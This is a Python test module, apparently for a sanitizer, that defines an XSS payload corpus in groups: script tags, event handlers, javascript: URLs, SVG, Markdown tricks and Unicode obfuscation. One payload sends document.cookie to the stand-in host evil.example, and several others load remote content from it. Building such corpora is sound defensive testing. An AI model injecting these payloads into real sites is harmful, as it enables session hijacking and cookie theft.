"""An XSS corpus: each vector is submitted through every user text field (see test_xss.py).

Written for this project (not copied from a list): every family the security issue names, each
in several spellings. Vectors that would "fire" call ``alert`` or fetch ``evil.example``, so the
browser check sees a dialog or a foreign request if one ever runs.
"""

from __future__ import annotations

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script>fetch('https://evil.example/steal?c='+document.cookie)</script>",
    "<scr<script>ipt>alert(2)</scr</script>ipt>",
    "<script/src=data:,alert(3)></script>",
    "</title><script>alert(4)</script>",
    "</textarea><script>alert(5)</script>",
    '"><script>alert(6)</script>',
    "'><script>alert(7)</script>",
    "<script type=module>alert(8)</script>",
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(10)>",
    '<img src="x" onerror="alert(11)">',
    "<body onload=alert(12)>",
    "<div onmouseover=alert(13)>hover</div>",
    "<input autofocus onfocus=alert(14)>",
    "<details open ontoggle=alert(15)>",
    "<video><source onerror=alert(16)></video>",
    "<marquee onstart=alert(17)>",
    '" onmouseover="alert(18)" x="',
    "' autofocus onfocus='alert(19)",
    "<a href=# onclick=alert(20)>click</a>",
    "<img src=x oNeRrOr=alert(21)>",
]

URL_SCHEMES = [
    "[click](javascript:alert(30))",
    "[click](JaVaScRiPt:alert(31))",
    "[click](  javascript:alert(32))",
    "[click](java\tscript:alert(33))",
    "[click](javascript&#58;alert(34))",
    "[click](&#106;avascript:alert(35))",
    "[click](%6Aavascript:alert(36))",
    "[click](vbscript:msgbox(37))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgzOCk8L3NjcmlwdD4=)",
    "[click](data:text/html,<script>alert(39)</script>)",
    "<a href='javascript:alert(40)'>x</a>",
    '<a href="&#x6A;avascript:alert(41)">x</a>',
    "[click](<javascript:alert(42)>)",
    "[click](\x01javascript:alert(43))",
]

SVG_MATHML = [
    "<svg onload=alert(50)>",
    "<svg><script>alert(51)</script></svg>",
    "<svg><a xlink:href='javascript:alert(52)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(53) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(54)>",
    "<math href='javascript:alert(55)'>x</math>",
]

MALFORMED = [
    "<<script>alert(60)//<</script>",
    "<img src=x onerror=alert(61)//",
    '<a href="javascript:alert(62)',
    "<!--<img src=x onerror=alert(63)>-->",
    "<![CDATA[<script>alert(64)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(65)>">',
    "<style><img src=x onerror=alert(66)></style>",
    "<div><p><b><i><img src=x onerror=alert(67)></i></b></p></div>",
    "<template><script>alert(68)</script></template>",
    "<xmp><img src=x onerror=alert(69)></xmp>",
]

MARKDOWN_TRICKS = [
    "![x](javascript:alert(70))",
    '![x" onerror="alert(71)](https://example.com/a.png)',
    '![x](https://example.com/a.png"onerror="alert(72))',
    "[a][ref]\n\n[ref]: javascript:alert(73)",
    "![a][img]\n\n[img]: javascript:alert(74)",
    '[x](https://example.com "title\\" onmouseover=alert(75) x=\\"")',
    "<javascript:alert(76)>",
    '<https://example.com/"onmouseover="alert(77)>',
    "`<script>alert(78)</script>`",
    "```html\n<script>alert(79)</script>\n```",
    "[![x](https://example.com/a.png)](javascript:alert(80))",
    "**<img src=x onerror=alert(81)>**",
]

ENTITIES_AND_UNICODE = [
    "&lt;script&gt;alert(90)&lt;/script&gt;",
    "&#60;script&#62;alert(91)&#60;/script&#62;",
    "\u202eexe.txt <script>alert(92)</script>",
    "java\u200bscript:alert(93)",
    "[zw](java\u200bscript:alert(94))",
    "\uff1cscript\uff1ealert(95)\uff1c/script\uff1e",
    "[fw](\uff4aavascript:alert(96))",
    "\u0000<script>alert(97)</script>",
]

CSS_AND_EMBEDS = [
    '<div style="background:url(javascript:alert(100))">x</div>',
    '<p style="behavior:url(x.htc)">x</p>',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(101)</script>'></iframe>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x.swf>",
    "<form action=https://evil.example><button>Go</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<button formaction=javascript:alert(102)>x</button>",
    "<img src=https://evil.example/pixel.png>",
]

XSS_VECTORS: list[str] = [
    *SCRIPT_TAGS,
    *EVENT_HANDLERS,
    *URL_SCHEMES,
    *SVG_MATHML,
    *MALFORMED,
    *MARKDOWN_TRICKS,
    *ENTITIES_AND_UNICODE,
    *CSS_AND_EMBEDS,
]

# A short sample that still covers every family, for the slower real-browser pass.
BROWSER_SAMPLE: list[str] = [
    family[i]
    for family in (
        SCRIPT_TAGS,
        EVENT_HANDLERS,
        URL_SCHEMES,
        SVG_MATHML,
        MALFORMED,
        MARKDOWN_TRICKS,
        ENTITIES_AND_UNICODE,
        CSS_AND_EMBEDS,
    )
    for i in (0, 1, 3)
]
